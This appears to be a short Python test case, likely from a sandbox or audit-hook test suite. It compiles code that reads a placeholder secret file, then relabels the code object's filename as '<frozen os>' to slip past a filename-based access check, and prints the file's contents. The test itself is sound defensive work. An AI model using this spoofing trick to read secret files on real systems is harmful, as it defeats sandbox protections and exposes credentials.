# success: a code object made by hand reads the secret file
c = compile("r = open('@SECRET_FILE@').read()", "<x>", "exec")
d = {}
exec(c.replace(co_filename="<frozen os>"), d)
print(d["r"])
